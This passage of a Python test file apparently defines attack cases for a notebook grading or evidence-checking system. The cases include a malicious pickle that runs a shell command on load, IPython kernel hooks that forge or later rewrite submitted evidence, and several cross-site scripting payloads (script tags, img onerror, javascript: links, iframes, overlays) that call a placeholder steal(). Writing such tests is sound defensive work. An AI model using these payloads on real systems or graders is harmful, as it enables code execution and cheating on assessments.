_forges("claim-deep", "claims something nested deeply", '"[" * 100_000')
_forges("claim-object", "sends the record as an object", 'json.loads(record({"kind": "text", "value": "no"}))')
_forges("claim-list", "sends several records in one", '["1", "1"]')
_forges("claim-surrogate", "claims half a character", 'record({"kind": "text", "value": "\\ud800"})')
_forges(
    "claim-elsewhere",
    "answers one question with another's record",
    'json.dumps({"question": "slope_meaning", "evidence": {"kind": "text", "value": "b"}})',
)
_forges(
    "claim-pickle",
    "sends a pickle that runs a command",
    "base64.b64encode(pickle.dumps(Run())).decode()",
    """
    import base64, os, pickle
    class Run:
        def __reduce__(self): return os.system, ("touch /tmp/@TRACE@-unpickled",)
    """,
)
_forges(
    "claim-twice",
    "sends two records for one check",
    'record({"kind": "text", "value": "yes"})',
    """
    from IPython.display import publish_display_data
    kernel = get_ipython().kernel
    simple = hook.compute_format_data
    def twice(self, result):
        data, _ = simple(self, result)
        kernel.session.send(kernel.iopub_socket, "execute_result",
                            {"data": data, "metadata": {}, "execution_count": 1}, parent=kernel.get_parent())
        return data, {}
    hook.compute_format_data = twice
    """,
)
_forges(
    "change-later",
    "changes what an earlier check showed",
    'record({"kind": "text", "value": "no"})',
    """
    from IPython.display import publish_display_data
    get_ipython().events.register("post_run_cell", lambda result: publish_display_data(
        {"text/plain": "1.0", "application/vnd.oxboys.evidence+json": record({"kind": "text", "value": "yes"})},
        transient={"display_id": "a"}, update=True))
    """,
)

# ---- feedback injection ---------------------------------------------------------------------------


def _shows(name: str, tries: str, code: str = "", cell: NotebookNode | None = None) -> None:
    def change(notebook: NotebookNode) -> None:
        if cell is not None:
            notebook.cells.append(NotebookNode(cell))

    _add("feedback injection", name, tries, "page", code, change=change)


_shows(
    "page-script-html", "shows HTML with a script", "from IPython.display import HTML\nHTML('<script>steal()</script>')"
)
_shows(
    "page-script-image",
    "shows an image that runs a script",
    "from IPython.display import HTML\nHTML('<img src=x onerror=steal()>')",
)
_shows(
    "page-script-link",
    "shows a link that runs a script",
    "from IPython.display import HTML\nHTML('<a href=\"javascript:steal()\">click</a>')",
)
_shows(
    "page-script-frame",
    "shows a frame with a page of its own",
    "from IPython.display import HTML\nHTML('<iframe srcdoc=\"steal()\"></iframe>')",
)
_shows(
    "page-script-javascript", "shows JavaScript itself", "from IPython.display import Javascript\nJavascript('steal()')"
)
_shows(
    "page-script-markdown",
    "shows Markdown with a script",
    "from IPython.display import Markdown\nMarkdown('<script>steal()</script>')",
)
_shows(
    "page-script-overlay",
    "lays a page of its own over the page",
    "from IPython.display import HTML\nHTML('<div style=\"position:fixed;top:0;background:url(steal)\">100 %</div>')",
)
_shows("page-cell-markdown", "writes a Markdown cell with a script", cell=new_markdown_cell("<script>steal()</script>"))
_shows(
    "page-cell-image",
    "writes a Markdown cell with an image that runs a script",
    cell=new_markdown_cell("text <img src=x onerror=steal()> text"),
)
